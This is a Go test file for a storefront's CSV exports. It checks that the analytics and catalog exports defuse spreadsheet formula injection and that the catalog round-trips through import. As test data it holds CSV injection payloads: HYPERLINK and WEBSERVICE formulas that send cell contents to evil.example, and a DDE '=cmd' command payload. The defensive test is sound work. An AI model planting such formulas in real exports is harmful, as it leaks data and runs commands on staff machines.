package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"storefront/models"
	"storefront/seed"
)

// The slot column comes from the events API: a tracker can put a formula
// there. No cell of the analytics export may start like one.
func TestAnalyticsCSVGuardsEveryTextColumn(t *testing.T) {
	shop := mustOpenShop(t)
	key, _, err := shop.db.CreateAPIKey(context.Background(), "test", "tracker", models.ScopeEvents)
	must(t, err)
	for _, slot := range []string{`=HYPERLINK("//e.x","Hi")`, "+1+1", "@SUM(A1)", "-2+3", "\tcmd", "\r=1"} {
		body := `{"events":[{"user_id":"u1","product_id":"SKU-1","type":"click","slot":` + jsonString(slot) + `}]}`
		if status, out := shop.postEvents(key, body); status != 202 {
			t.Fatalf("click with slot %q: %d %v", slot, status, out)
		}
	}
	c := shop.staffClient(models.RoleMerchandiser)
	today := time.Now().UTC().Format(time.DateOnly)
	res, err := c.hc.Get(shop.ts.URL + "/admin/analytics.csv?from=" + today + "&to=" + today)
	must(t, err)
	defer res.Body.Close()
	recs, err := csv.NewReader(res.Body).ReadAll()
	must(t, err)
	if len(recs) < 7 {
		t.Fatalf("%d rows, want the header and 6 slots: the test cannot see the column", len(recs))
	}
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s starts a formula: %q", recs[0][i], cell)
			}
		}
	}
}

func jsonString(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\t", `\t`, "\r", `\r`, "\n", `\n`)
	return `"` + r.Replace(s) + `"`
}

// Product titles, descriptions, brands and categories come from suppliers'
// files, so the catalog export guards them against spreadsheet formulas
// like the analytics export; the import takes the guard off, so the export
// still imports back to the same catalog.
func TestCatalogCSVGuardsFormulasAndImportsBack(t *testing.T) {
	shop := mustOpenShop(t)
	ctx := context.Background()
	want := map[string][3]string{ // SKU: title, description, brand
		"SKU-1": {`=HYPERLINK("//evil.example/?"&A2,"Tent")`, "-2+3 all seasons", "@SUM(A1)"},
		"SKU-2": {"+1 Ridge Boot", "=cmd|' /C calc'!A0", "Summit"},
		// A cell a semicolon spreadsheet (Excel in German or French) splits.
		"SKU-3": {`Skillet;=WEBSERVICE("https://evil.example/?"&A2)`, "Pre-seasoned;\t@SUM(A1)", "Hearth; -2+3"},
	}
	for sku, v := range want {
		must(t, shop.db.W.Model(&models.Product{}).Where("external_id = ?", sku).
			Updates(map[string]any{"title": v[0], "description": v[1], "brand": v[2]}).Error)
	}
	shop.srv.catalogChanged()
	admin := shop.staffClient(models.RoleAdmin)
	res, err := admin.hc.Get(shop.ts.URL + "/admin/catalog.csv")
	must(t, err)
	data, err := io.ReadAll(res.Body)
	res.Body.Close()
	must(t, err)
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	must(t, err)
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			// As a comma spreadsheet reads it, and split where a semicolon
			// or tab spreadsheet starts a cell.
			for _, part := range append([]string{cell}, strings.FieldsFunc(cell, func(r rune) bool { return r == ';' || r == '\t' })...) {
				if part = strings.TrimLeft(part, " "); part != "" && strings.ContainsRune("=+-@\t\r", rune(part[0])) {
					t.Errorf("column %s holds a cell that starts a formula: %q in %q", recs[0][i], part, cell)
				}
			}
		}
	}
	for sku := range want {
		must(t, shop.db.W.Model(&models.Product{}).Where("external_id = ?", sku).
			Updates(map[string]any{"title": "changed", "description": "changed", "brand": "changed"}).Error)
	}
	file := filepath.Join(t.TempDir(), "catalog.csv")
	must(t, os.WriteFile(file, data, 0o600))
	if _, err := seed.ImportWith(ctx, shop.db, seed.ImportOptions{Products: file}, io.Discard); err != nil {
		t.Fatalf("the export does not import back: %v", err)
	}
	for sku, v := range want {
		p, err := shop.db.ProductByExternalID(ctx, sku)
		must(t, err)
		if got := [3]string{p.Title, p.Description, p.Brand}; got != v {
			t.Errorf("%s after the round trip: %q, want %q", sku, got, v)
		}
	}
}
